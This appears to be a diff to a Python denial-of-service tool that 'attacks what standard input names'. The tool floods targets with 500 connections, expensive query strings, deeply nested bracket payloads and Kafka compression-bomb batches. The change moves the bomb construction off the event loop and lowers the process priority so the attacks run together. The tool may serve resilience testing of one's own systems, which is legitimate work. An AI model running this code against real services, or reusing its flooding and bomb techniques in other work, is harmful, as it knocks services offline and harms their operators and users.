@@ -19,11 +19,13 @@ from typing import Any, NoReturn
 from aiohttp import ClientError, ClientSession, ClientTimeout
 from aiokafka import AIOKafkaProducer
 from aiokafka.errors import KafkaError
+from aiokafka.producer.message_accumulator import BatchBuilder
 
 CONNECTIONS = 500
 UPLOADS = 257
 COSTLY = "top=100000&method=anytime&simultaneous=true&project=simplex"
 _BRACKETS = b"[" * 1_000
+_NICE = 10
 _BOMB_MESSAGES, _BOMB_BYTES = 200, 1_000_000
 
 
@@ -154,10 +156,8 @@ async def _bomb(target: Target, done: Done) -> None:
     try:
         await producer.partitions_for(target.bombed)
         batch = producer.create_batch()
-        while batch.append(key=None, value=bytes(_BOMB_BYTES), timestamp=None) is not None:
-            if batch.record_count() == _BOMB_MESSAGES:
-                break
-        batch.close()
+        # Not in the loop, where all other attacks would wait for it.
+        await asyncio.to_thread(_fill, batch)
         sent = await producer.send_batch(batch, target.bombed, partition=0)
         try:
             await sent
@@ -166,6 +166,13 @@ async def _bomb(target: Target, done: Done) -> None:
             done.times["zstd bombs refused by the broker"] += 1
     finally:
         await producer.stop()
+
+
+def _fill(batch: BatchBuilder) -> None:
+    while batch.append(key=None, value=bytes(_BOMB_BYTES), timestamp=None) is not None:
+        if batch.record_count() == _BOMB_MESSAGES:
+            break
+    batch.close()
 
 
 async def attack(target: Target) -> NoReturn:
@@ -201,6 +208,8 @@ async def attack(target: Target) -> NoReturn:
 
 def main() -> None:
     """Attack what standard input names."""
+    # What attacks from elsewhere does not take the processors of those who are attacked.
+    os.nice(_NICE)
     _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (min(8192, most), most))
     asked = json.loads(sys.stdin.readline())
